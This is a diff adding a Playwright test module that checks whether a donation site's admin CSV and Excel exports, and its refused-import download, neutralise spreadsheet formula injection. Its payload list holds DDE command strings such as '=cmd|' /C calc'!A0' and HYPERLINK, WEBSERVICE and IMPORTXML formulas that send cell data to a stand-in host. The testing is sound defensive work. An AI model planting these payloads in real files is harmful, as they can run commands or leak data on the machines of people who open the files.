@@ -1,0 +1,126 @@
+/** Formulas in every column, taken out again by every button that makes a file for a spreadsheet. */
+import { readFileSync } from 'node:fs'
+import type { Page } from '@playwright/test'
+import { strFromU8, unzipSync } from 'fflate'
+import { readCsv } from '#domain/csv/read-csv.ts'
+import { dropChecks, fillBackOffice, fillSite } from './fill.ts'
+import type { Outcome } from './outcome.ts'
+import { signIn } from './sign-in.ts'
+import type { Target } from './target.ts'
+import { openWatchedBrowser } from './watched-browser.ts'
+
+export const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://canary.invalid/?"&A1,"press")',
+  '=WEBSERVICE("http://canary.invalid/")',
+  '=IMPORTXML("http://canary.invalid/","//a")',
+  '+cmd|calc!A0',
+  '-2+3+cmd|calc!A0',
+  '@cmd|calc!A0',
+  '"=1+1',
+  '",=1+1,"',
+  '"\r\n=1+1,"',
+  ';=1+1',
+  "'=1+1",
+  "''=1+1",
+  '%0A=1+1',
+  '=1+1\n=2+2',
+  '</t></is><f>1+1</f>',
+  '&#61;1+1',
+]
+
+type Exported = { path: string; button: string }
+
+const EXPORTS: Exported[] = [
+  { path: '/admin/donors', button: 'Export CSV' },
+  { path: '/admin/donors', button: 'Export XLSX' },
+  { path: '/admin/donations', button: 'Export as CSV' },
+  { path: '/admin/mis-dashboard', button: 'Export CSV' },
+  { path: '/admin/mis-dashboard', button: 'Export Excel' },
+  { path: '/admin/inbox', button: 'Export CSV' },
+]
+
+export async function attackExports(target: Target): Promise<Outcome> {
+  const findings: string[] = []
+  let cells = 0
+  const look = async (name: string, saved: Promise<string>) => {
+    const rows = cellsOf(await saved)
+    cells += rows.length
+    if (!rows.some((cell) => cell.includes('1+1'))) findings.push(`${name} holds none of the formulas`)
+    for (const cell of rows.filter(isFormula)) findings.push(`${name} holds ${JSON.stringify(cell)}`)
+  }
+  await dropChecks(target)
+  await fillSite(target, { url: '=1+1', text: '=1+1' })
+  await fillBackOffice(target, { url: '=1+1', text: '=1+1' }, FORMULAS)
+  const browser = await openWatchedBrowser(target.url, 1, await signIn(target))
+  const [page] = browser.pages
+  if (!page) throw new Error('No tab was opened')
+  for (const { path, button } of EXPORTS) {
+    await page.goto(path)
+    await look(
+      `${path}: ${button}`,
+      downloaded(page, () => page.getByRole('button', { name: button }).click()),
+    )
+  }
+  await look('The rows that an import refused', refusedRows(page))
+  await browser.close()
+  return {
+    attack: 'formula cells in every export (cells)',
+    count: cells,
+    findings: [...findings, ...browser.findings],
+  }
+}
+
+async function refusedRows(page: Page): Promise<string> {
+  const lines = FORMULAS.map((formula) => `"${formula.replaceAll('"', '""')}",a lot`)
+  await page.goto('/admin/donors/import')
+  const file = {
+    name: 'list.csv',
+    mimeType: 'text/csv',
+    buffer: Buffer.from(`name,amount\r\n${lines.join('\r\n')}`),
+  }
+  await page.getByLabel('List of donors').setInputFiles(file)
+  await page.getByLabel('amount').selectOption('Amount Donated (INR)')
+  await page.getByRole('button', { name: 'Check the rows' }).click()
+  return downloaded(page, () => page.getByRole('button', { name: 'Download these rows' }).click())
+}
+
+/** Where a file was saved to. */
+async function downloaded(page: Page, press: () => Promise<void>): Promise<string> {
+  const downloading = page.waitForEvent('download')
+  await press()
+  return (await downloading).path()
+}
+
+/** The texts of a CSV file or of a workbook; a formula of a workbook comes with its sign. */
+export function cellsOf(path: string): string[] {
+  const bytes = readFileSync(path)
+  if (bytes.subarray(0, 2).toString() !== 'PK') {
+    const [, ...rows] = readCsv(bytes.toString('utf8').replace(/^\ufeff/, '')).rows
+    return rows.flatMap((row) => row.cells)
+  }
+  const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'))
+  const xml = sheets.map(([, sheet]) => strFromU8(sheet)).join('')
+  // What is stored as a text is one, whatever it begins with.
+  const texts = [...xml.matchAll(/t="inlineStr"><is><t[^>]*>([^<]*)/g)].map(([, text = '']) => `text ${text}`)
+  const formulas = [...xml.matchAll(/<f[ >]/g)].map(() => '=a formula')
+  return [...texts, ...formulas]
+}
+
+/** As spreadsheets see it: with blanks skipped, and as East Asian keyboards type it. A number is none. */
+export function isFormula(cell: string): boolean {
+  return /^\s*[=+\-@＝＋－＠]|^[\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
+}
